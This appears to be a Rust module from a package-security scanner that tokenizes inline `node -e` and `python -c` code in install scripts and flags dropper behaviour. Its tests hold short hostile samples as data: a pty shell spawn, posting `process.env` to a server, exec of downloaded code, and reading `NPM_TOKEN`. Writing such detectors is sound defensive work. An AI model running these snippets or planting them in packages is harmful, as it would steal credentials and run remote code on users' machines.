//! What the inline code of `node -e`/`node -p` and `python -c` does.
//!
//! Install scripts and gyp files use inline code for honest chores: loading a file of
//! the package (`try{require('./postinstall')}catch(e){}`), printing a build path
//! (`require('node-addon-api').include`, `numpy.get_include()`), printing a message. A
//! dropper uses it to start programs, talk to the network, evaluate or decode hidden
//! code, or read secrets from the environment. The code is split into tokens (strings
//! and comments recognised, so a word inside a message or a comment does not count) and
//! those capabilities are looked for by name.

use crate::capabilities::{self, Capability};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Language {
    JavaScript,
    Python,
}

/// The risky things `code` does, as short phrases naming what was seen ("starts
/// programs (`child_process`, `exec`)"), in the order they first appear. Empty when the
/// code looks harmless.
pub(crate) fn risky_capabilities(code: &str, language: Language) -> Vec<String> {
    let tokens = tokenize(code, language);
    let mut found = Vec::new();
    match language {
        Language::JavaScript => javascript(&tokens, &mut found),
        Language::Python => python(&tokens, &mut found),
    }
    // Group the names by capability, keeping the order of first appearance.
    let mut grouped: Vec<(&'static str, Vec<String>)> = Vec::new();
    for (what, name) in found {
        let index = match grouped.iter().position(|(w, _)| *w == what) {
            Some(index) => index,
            None => {
                grouped.push((what, Vec::new()));
                grouped.len() - 1
            }
        };
        let names = &mut grouped[index].1;
        if !name.is_empty() && !names.contains(&name) {
            names.push(name);
        }
    }
    grouped
        .into_iter()
        .map(|(what, names)| {
            if names.is_empty() {
                what.to_string()
            } else {
                let quoted: Vec<String> = names.iter().map(|n| format!("`{}`", short(n))).collect();
                format!("{what} ({})", quoted.join(", "))
            }
        })
        .collect()
}

/// One capability seen: what it is and the name that showed it (may be empty).
type Seen = (&'static str, String);

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Ident(String),
    Str {
        value: String,
        /// Written with `\x`, `\u` or octal escapes.
        escaped: bool,
        /// A template literal with `${…}` parts.
        dynamic: bool,
    },
    Punct(u8),
}

const STARTS: &str = "starts programs";
const NETWORK: &str = "uses the network";
const EVALUATES: &str = "evaluates code built at run time";
const DECODES: &str = "decodes hidden data";
const WHOLE_ENVIRONMENT: &str = "reads the whole environment";
const SECRET: &str = "reads a secret from the environment";
const NATIVE: &str = "loads native code directly";
const COMPUTED: &str = "loads a module whose name is computed at run time";
const ESCAPED: &str = "loads a module whose name is hidden in escape sequences";
const OUTSIDE: &str = "loads code from outside the package";

fn seen(what: &'static str, name: impl Into<String>) -> Seen {
    (what, name.into())
}

/// Names from the package are quoted in messages: keep them short.
pub(crate) fn short(text: &str) -> String {
    const MAX_CHARS: usize = 60;
    let mut chars = text.chars();
    let head: String = chars.by_ref().take(MAX_CHARS).collect();
    if chars.next().is_some() {
        format!("{head}…")
    } else {
        head
    }
}

/// Environment variables whose name suggests a credential.
fn is_secret_name(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "KEY",
        "AUTH",
        "CREDENTIAL",
        "COOKIE",
        "SESSION",
        "PRIVATE",
    ]
    .iter()
    .any(|word| upper.contains(word))
}

fn is_punct(tokens: &[Token], index: usize, byte: u8) -> bool {
    matches!(tokens.get(index), Some(Token::Punct(b)) if *b == byte)
}

fn ident_at(tokens: &[Token], index: usize) -> Option<&str> {
    match tokens.get(index) {
        Some(Token::Ident(name)) => Some(name),
        _ => None,
    }
}

fn literal_at(tokens: &[Token], index: usize) -> Option<(&str, bool)> {
    match tokens.get(index) {
        Some(Token::Str {
            value,
            escaped,
            dynamic: false,
        }) => Some((value, *escaped)),
        _ => None,
    }
}

// JavaScript

fn javascript(tokens: &[Token], found: &mut Vec<Seen>) {
    for (index, token) in tokens.iter().enumerate() {
        match token {
            Token::Ident(name) => {
                let after_dot = index > 0 && is_punct(tokens, index - 1, b'.');
                match name.as_str() {
                    "require" | "import" if is_punct(tokens, index + 1, b'(') => {
                        js_module_argument(tokens, index + 2, name, found);
                    }
                    "from" | "import" if !after_dot => {
                        if let Some((spec, escaped)) = literal_at(tokens, index + 1) {
                            js_module(spec, escaped, found);
                        }
                    }
                    "Buffer"
                        if is_punct(tokens, index + 1, b'.')
                            && ident_at(tokens, index + 2) == Some("from") =>
                    {
                        found.push(seen(DECODES, "Buffer.from"));
                    }
                    "process" if is_punct(tokens, index + 1, b'.') => {
                        match ident_at(tokens, index + 2) {
                            Some("env") => js_environment(tokens, index + 3, found),
                            Some(inner @ ("binding" | "_linkedBinding" | "dlopen")) => {
                                found.push(seen(NATIVE, format!("process.{inner}")))
                            }
                            _ => {}
                        }
                    }
                    // `node -e` has Node's modules as globals: `https.get(…)`,
                    // `child_process.execSync(…)` without a require.
                    module
                        if !after_dot
                            && is_punct(tokens, index + 1, b'.')
                            && capabilities::is_builtin(module) =>
                    {
                        if let Some(what) = capabilities::of_module(module).and_then(phrase) {
                            found.push(seen(what, module));
                        }
                    }
                    other => js_name(other, found),
                }
            }
            Token::Str { value, .. } => {
                if value.eq_ignore_ascii_case("base64") {
                    found.push(seen(DECODES, "base64"));
                }
                // `global['eval']`, `cp['execSync']`: a risky name looked up by string.
                if index > 0 && is_punct(tokens, index - 1, b'[') {
                    js_name(value, found);
                }
            }
            Token::Punct(_) => {}
        }
    }
}

fn js_name(name: &str, found: &mut Vec<Seen>) {
    if let Some(what) = capabilities::of_function(name).and_then(phrase) {
        found.push(seen(what, name));
    }
}

/// How a capability reads in a finding about inline code; `None` for those that are
/// everyday chores there (reading a file, asking the host name).
fn phrase(capability: Capability) -> Option<&'static str> {
    match capability {
        Capability::StartsPrograms => Some(STARTS),
        Capability::Network => Some(NETWORK),
        Capability::Evaluates => Some(EVALUATES),
        Capability::Decodes => Some(DECODES),
        Capability::Files | Capability::HostDetails | Capability::LoadsModules => None,
    }
}

/// The argument of `require(` / `import(` starting at token `index`.
fn js_module_argument(tokens: &[Token], index: usize, call: &str, found: &mut Vec<Seen>) {
    if let Some((spec, escaped)) = literal_at(tokens, index)
        && (is_punct(tokens, index + 1, b')') || is_punct(tokens, index + 1, b','))
    {
        js_module(spec, escaped, found);
    } else if !is_punct(tokens, index, b')') && tokens.get(index).is_some() {
        found.push(seen(COMPUTED, format!("{call}(…)")));
    }
}

/// Judge a module specifier: relative files and packages are fine; builtins that start
/// programs, talk to the network or evaluate code, and code from outside the package
/// are not.
fn js_module(spec: &str, escaped: bool, found: &mut Vec<Seen>) {
    if escaped {
        found.push(seen(ESCAPED, ""));
        return;
    }
    let spec = spec.strip_prefix("node:").unwrap_or(spec);
    if spec.starts_with("./") || spec.starts_with("../") || spec == "." || spec == ".." {
        return;
    }
    let bytes = spec.as_bytes();
    let drive = bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':';
    if spec.starts_with(['/', '\\', '~']) || drive || spec.contains(':') {
        found.push(seen(OUTSIDE, spec));
        return;
    }
    let top = spec.split('/').next().unwrap_or(spec);
    if let Some(what) = capabilities::of_module(top).and_then(phrase) {
        found.push(seen(what, top));
    }
}

/// `process.env` followed by the tokens at `index`: one named variable is a setting
/// (fine unless it names a credential); the whole object is a dump of every secret.
fn js_environment(tokens: &[Token], index: usize, found: &mut Vec<Seen>) {
    let name = if is_punct(tokens, index, b'.') {
        ident_at(tokens, index + 1)
    } else if is_punct(tokens, index, b'[') && is_punct(tokens, index + 2, b']') {
        literal_at(tokens, index + 1).map(|(value, _)| value)
    } else {
        None
    };
    match name {
        Some(name) if is_secret_name(name) => {
            found.push(seen(SECRET, format!("process.env.{name}")))
        }
        Some(_) => {}
        None => found.push(seen(WHOLE_ENVIRONMENT, "process.env")),
    }
}

// Python

const PY_PROCESS_FUNCTIONS: &[&str] = &[
    "system",
    "popen",
    "popen2",
    "popen3",
    "spawnl",
    "spawnle",
    "spawnlp",
    "spawnv",
    "spawnve",
    "spawnvp",
    "execl",
    "execle",
    "execlp",
    "execv",
    "execve",
    "execvp",
    "execvpe",
    "startfile",
    "posix_spawn",
];

fn python(tokens: &[Token], found: &mut Vec<Seen>) {
    for (index, token) in tokens.iter().enumerate() {
        match token {
            Token::Ident(name) => {
                let after_dot = index > 0 && is_punct(tokens, index - 1, b'.');
                match name.as_str() {
                    "import" if !after_dot => py_imports(tokens, index + 1, found),
                    "from" if !after_dot => {
                        if let Some(module) = ident_at(tokens, index + 1) {
                            py_module(module, found);
                            py_from_os_import(tokens, index, module, found);
                        }
                    }
                    "__import__" | "import_module" if is_punct(tokens, index + 1, b'(') => {
                        match literal_at(tokens, index + 2) {
                            Some((module, _)) => {
                                py_module(module.split('.').next().unwrap_or(module), found)
                            }
                            None => found.push(seen(COMPUTED, format!("{name}(…)"))),
                        }
                    }
                    "exec" | "eval" | "compile" | "execfile" if !after_dot => {
                        found.push(seen(EVALUATES, name));
                    }
                    "b64decode" | "a2b_base64" | "fromhex" | "unhexlify" | "decodestring"
                    | "decodebytes" => found.push(seen(DECODES, name)),
                    "urlopen" | "urlretrieve" => found.push(seen(NETWORK, name)),
                    "environ" => py_environ(tokens, index + 1, found),
                    "getenv" if is_punct(tokens, index + 1, b'(') => {
                        match literal_at(tokens, index + 2) {
                            Some((var, _)) if is_secret_name(var) => {
                                found.push(seen(SECRET, format!("os.getenv('{var}')")));
                            }
                            Some(_) => {}
                            None => found.push(seen(WHOLE_ENVIRONMENT, "os.getenv")),
                        }
                    }
                    function if after_dot && PY_PROCESS_FUNCTIONS.contains(&function) => {
                        if let Some(object @ ("os" | "posix" | "nt")) = py_object(tokens, index) {
                            found.push(seen(STARTS, format!("{object}.{function}")));
                        }
                    }
                    _ => {}
                }
            }
            Token::Str { value, .. } => {
                if value.eq_ignore_ascii_case("base64") {
                    found.push(seen(DECODES, "base64"));
                }
            }
            Token::Punct(_) => {}
        }
    }
}

/// The identifier before the `.` that precedes token `index` (`os` in `os.system`).
fn py_object(tokens: &[Token], index: usize) -> Option<&str> {
    if index >= 2 && is_punct(tokens, index - 1, b'.') {
        ident_at(tokens, index - 2)
    } else {
        None
    }
}

/// `import a.b, c as d`: judge each top-level module.
fn py_imports(tokens: &[Token], mut index: usize, found: &mut Vec<Seen>) {
    let mut expect_module = true;
    while let Some(token) = tokens.get(index) {
        match token {
            Token::Ident(name) if expect_module => {
                py_module(name, found);
                expect_module = false;
            }
            Token::Ident(name) if name == "as" => {
                index += 1;
            }
            Token::Punct(b'.') => index += 1,
            Token::Punct(b',') => expect_module = true,
            _ => return,
        }
        index += 1;
    }
}

/// `from os import system, popen`.
fn py_from_os_import(tokens: &[Token], from: usize, module: &str, found: &mut Vec<Seen>) {
    if !matches!(module, "os" | "posix" | "nt") || ident_at(tokens, from + 2) != Some("import") {
        return;
    }
    // The imported names run up to the next statement; a long list is not followed.
    for token in tokens.iter().skip(from + 3).take(64) {
        match token {
            Token::Ident(name) if matches!(name.as_str(), "import" | "from") => return,
            Token::Ident(name) if PY_PROCESS_FUNCTIONS.contains(&name.as_str()) => {
                found.push(seen(STARTS, format!("{module}.{name}")));
            }
            Token::Ident(_) | Token::Punct(b',' | b'(' | b')') => {}
            _ => return,
        }
    }
}

fn py_module(module: &str, found: &mut Vec<Seen>) {
    match module {
        "subprocess" | "commands" | "pty" => found.push(seen(STARTS, module)),
        "socket" | "ssl" | "urllib" | "urllib2" | "urllib3" | "http" | "httplib" | "requests"
        | "ftplib" | "telnetlib" | "smtplib" => found.push(seen(NETWORK, module)),
        "base64" | "marshal" => found.push(seen(DECODES, module)),
        "ctypes" => found.push(seen(NATIVE, module)),
        _ => {}
    }
}

/// `os.environ` followed by the tokens at `index`.
fn py_environ(tokens: &[Token], index: usize, found: &mut Vec<Seen>) {
    let name = if is_punct(tokens, index, b'.')
        && ident_at(tokens, index + 1) == Some("get")
        && is_punct(tokens, index + 2, b'(')
    {
        literal_at(tokens, index + 3).map(|(value, _)| value)
    } else if is_punct(tokens, index, b'[') && is_punct(tokens, index + 2, b']') {
        literal_at(tokens, index + 1).map(|(value, _)| value)
    } else {
        None
    };
    match name {
        Some(name) if is_secret_name(name) => {
            found.push(seen(SECRET, format!("os.environ['{name}']")));
        }
        Some(_) => {}
        None => found.push(seen(WHOLE_ENVIRONMENT, "os.environ")),
    }
}

// Tokens

fn tokenize(code: &str, language: Language) -> Vec<Token> {
    let js = language == Language::JavaScript;
    let bytes = code.as_bytes();
    let mut tokens = Vec::new();
    // Open `${` of JavaScript template literals: the brace depth each was opened at.
    let mut templates: Vec<usize> = Vec::new();
    let mut braces = 0usize;
    let mut i = 0;
    while i < bytes.len() {
        let byte = bytes[i];
        let next = bytes.get(i + 1).copied();
        match byte {
            _ if byte.is_ascii_whitespace() => i += 1,
            b'/' if js && next == Some(b'/') => i = skip_line(bytes, i),
            b'#' if !js => i = skip_line(bytes, i),
            b'/' if js && next == Some(b'*') => {
                i = find(bytes, i + 2, b"*/").map_or(bytes.len(), |end| end + 2);
            }
            b'\'' | b'"' => {
                let (token, end) = string(bytes, i, js);
                tokens.push(token);
                i = end;
            }
            b'`' if js => {
                i = template(bytes, i + 1, false, &mut tokens, &mut templates, braces);
            }
            b'}' if js && templates.last() == Some(&braces) => {
                templates.pop();
                i = template(bytes, i + 1, true, &mut tokens, &mut templates, braces);
            }
            b'{' => {
                braces += 1;
                tokens.push(Token::Punct(byte));
                i += 1;
            }
            b'}' => {
                braces = braces.saturating_sub(1);
                tokens.push(Token::Punct(byte));
                i += 1;
            }
            _ if byte.is_ascii_alphabetic() || byte == b'_' || (js && byte == b'$') => {
                let start = i;
                while i < bytes.len()
                    && (bytes[i].is_ascii_alphanumeric()
                        || bytes[i] == b'_'
                        || (js && bytes[i] == b'$'))
                {
                    i += 1;
                }
                tokens.push(Token::Ident(code[start..i].to_string()));
            }
            _ if byte.is_ascii_digit() => {
                while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'.') {
                    i += 1;
                }
            }
            _ if byte.is_ascii_punctuation() => {
                tokens.push(Token::Punct(byte));
                i += 1;
            }
            _ => i += 1,
        }
    }
    tokens
}

fn skip_line(bytes: &[u8], from: usize) -> usize {
    bytes[from..]
        .iter()
        .position(|&b| b == b'\n')
        .map_or(bytes.len(), |offset| from + offset)
}

fn find(bytes: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    bytes
        .get(from..)?
        .windows(needle.len())
        .position(|w| w == needle)
        .map(|offset| from + offset)
}

/// A quoted string starting at `start` (Python triple quotes included); returns the
/// token and the index after it.
fn string(bytes: &[u8], start: usize, js: bool) -> (Token, usize) {
    let quote = bytes[start];
    let triple = !js && bytes.get(start..start + 3) == Some(&[quote, quote, quote][..]);
    let mut i = start + if triple { 3 } else { 1 };
    let mut value = Vec::new();
    let mut escaped = false;
    while i < bytes.len() {
        let byte = bytes[i];
        if byte == quote && (!triple || bytes.get(i..i + 3) == Some(&[quote, quote, quote][..])) {
            i += if triple { 3 } else { 1 };
            break;
        }
        if byte == b'\\' {
            i += 1 + unescape(bytes.get(i + 1).copied(), &mut value, &mut escaped);
            continue;
        }
        value.push(byte);
        i += 1;
    }
    let token = Token::Str {
        value: String::from_utf8_lossy(&value).into_owned(),
        escaped,
        dynamic: false,
    };
    (token, i.min(bytes.len()))
}

/// Decode the escape whose character is `next`; returns how many bytes it used.
fn unescape(next: Option<u8>, value: &mut Vec<u8>, escaped: &mut bool) -> usize {
    match next {
        Some(b'n') => value.push(b'\n'),
        Some(b't') => value.push(b'\t'),
        Some(b'r') => value.push(b'\r'),
        Some(b'x' | b'u' | b'U' | b'N' | b'0'..=b'7') => {
            *escaped = true;
            value.push(b'\\');
            value.push(next.unwrap_or_default());
        }
        Some(other) => value.push(other),
        None => return 0,
    }
    1
}

/// The literal text of a JavaScript template from `start` up to the closing backtick
/// (pushed as a string token) or up to a `${` (pushed, and the template remembered in
/// `templates` so the matching `}` resumes it). `resumed` is true for the part after a
/// `${…}`. Returns the index after what was read.
fn template(
    bytes: &[u8],
    start: usize,
    resumed: bool,
    tokens: &mut Vec<Token>,
    templates: &mut Vec<usize>,
    braces: usize,
) -> usize {
    let mut i = start;
    let mut value = Vec::new();
    let mut escaped = false;
    while i < bytes.len() {
        match bytes[i] {
            b'`' => {
                tokens.push(Token::Str {
                    value: String::from_utf8_lossy(&value).into_owned(),
                    escaped,
                    dynamic: resumed,
                });
                return i + 1;
            }
            b'$' if bytes.get(i + 1) == Some(&b'{') => {
                tokens.push(Token::Str {
                    value: String::from_utf8_lossy(&value).into_owned(),
                    escaped,
                    dynamic: true,
                });
                templates.push(braces);
                return i + 2;
            }
            b'\\' => i += 1 + unescape(bytes.get(i + 1).copied(), &mut value, &mut escaped),
            byte => {
                value.push(byte);
                i += 1;
            }
        }
    }
    bytes.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn js(code: &str) -> Vec<String> {
        risky_capabilities(code, Language::JavaScript)
    }

    fn py(code: &str) -> Vec<String> {
        risky_capabilities(code, Language::Python)
    }

    #[test]
    fn honest_javascript() {
        for code in [
            "try{require('./postinstall')}catch(e){}",
            "try{require('./_postinstall')}catch(e){}",
            "require('node-addon-api').include",
            "require('nan')",
            "console.log('Thank you! Run `npx x` to spawn a server; eval later')",
            "require('fs').existsSync('x') || process.exit(0)",
            "process.env.CI || require('./x')",
            "if (process.env['NODE_ENV'] !== 'production') require(`./dev`)",
            "console.log(require('path').join(__dirname, 'include'))",
            "console.log(process.arch, process.platform) // exec later",
            "/* spawn */ require('./a')",
            // Files and host details are everyday chores in inline code.
            "require('fs-extra').copySync('a', 'b')",
            "console.log(require('os').platform())",
            // A module's name as a member or a key is not the module.
            "require('./build').run({ cluster: config.cluster, dns: false })",
            "",
        ] {
            assert_eq!(js(code), Vec::<String>::new(), "{code}");
        }
    }

    #[test]
    fn risky_javascript() {
        for (code, expected) in [
            (
                "require('child_process').exec('id')",
                "starts programs (`child_process`, `exec`)",
            ),
            (
                "require('node:https').get('https://x')",
                "uses the network (`https`)",
            ),
            ("fetch('http://x')", "uses the network (`fetch`)"),
            (
                "eval(atob('aWQ='))",
                "evaluates code built at run time (`eval`); decodes hidden data (`atob`)",
            ),
            (
                "new Function(x)()",
                "evaluates code built at run time (`Function`)",
            ),
            (
                "require('vm').runInThisContext(s)",
                "evaluates code built at run time (`vm`, `runInThisContext`)",
            ),
            (
                "x=Buffer.from(s,'base64')",
                "decodes hidden data (`Buffer.from`, `base64`)",
            ),
            (
                "console.log(JSON.stringify(process.env))",
                "reads the whole environment (`process.env`)",
            ),
            (
                "const {NPM_TOKEN} = process.env",
                "reads the whole environment (`process.env`)",
            ),
            (
                "send(process.env.NPM_TOKEN)",
                "reads a secret from the environment (`process.env.NPM_TOKEN`)",
            ),
            (
                "require('ch'+'ild_process')",
                "loads a module whose name is computed at run time (`require(…)`)",
            ),
            (
                "require(`${a}`)",
                "loads a module whose name is computed at run time (`require(…)`)",
            ),
            (
                "require('\\x63hild_process')",
                "loads a module whose name is hidden in escape sequences",
            ),
            (
                "require('/tmp/x.js')",
                "loads code from outside the package (`/tmp/x.js`)",
            ),
            (
                "global['eval'](s)",
                "evaluates code built at run time (`eval`)",
            ),
            ("import('https')", "uses the network (`https`)"),
            (
                "`${require('child_process').execSync('id')}`",
                "starts programs (`child_process`, `execSync`)",
            ),
            // The capability table the AST walk reads: HTTP client packages and `fork`.
            (
                "require('axios').post('https://x', process.env)",
                "uses the network (`axios`)",
            ),
            (
                "require('child_process').fork('x.js')",
                "starts programs (`child_process`, `fork`)",
            ),
            ("https.get('https://x')", "uses the network (`https`)"),
            (
                "child_process.execSync('id')",
                "starts programs (`child_process`, `execSync`)",
            ),
        ] {
            let found = js(code).join("; ");
            assert!(found.contains(expected), "{code}: {found}");
        }
    }

    #[test]
    fn python_inline_code() {
        for code in [
            "import numpy; print(numpy.get_include())",
            "import os; print(os.environ.get('DAHUA_SDK_DIR', ''))",
            "import sys;print(sys.byteorder.upper())",
            "import platform; print(platform.system())",
            "import os; print os.environ.get('CHROME_HEADLESS', 0)",
            "import re; print(re.compile('x').pattern)",
            "from distutils import sysconfig; print(sysconfig.get_config_var('prefix'))",
        ] {
            assert_eq!(py(code), Vec::<String>::new(), "{code}");
        }
        for (code, expected) in [
            ("import os;os.system('id')", "starts programs (`os.system`)"),
            (
                "from os import system; system('id')",
                "starts programs (`os.system`)",
            ),
            ("import socket,subprocess,os", "uses the network (`socket`)"),
            (
                "import urllib.request as u; exec(u.urlopen('http://x').read())",
                "evaluates code built at run time (`exec`)",
            ),
            ("import base64", "decodes hidden data (`base64`)"),
            (
                "import os; print(dict(os.environ))",
                "reads the whole environment (`os.environ`)",
            ),
            (
                "__import__('pty').spawn('/bin/sh')",
                "starts programs (`pty`)",
            ),
        ] {
            let found = py(code).join("; ");
            assert!(found.contains(expected), "{code}: {found}");
        }
    }

    #[test]
    fn hostile_code_does_not_panic() {
        for code in [
            "`${",
            "'",
            "\"\\",
            "'''",
            "`${`${`",
            "}}}}",
            "é`ü${",
            "require(",
            "process.env[",
        ] {
            let _ = js(code);
            let _ = py(code);
        }
        let _ = js(&"`${".repeat(20_000));
    }
}
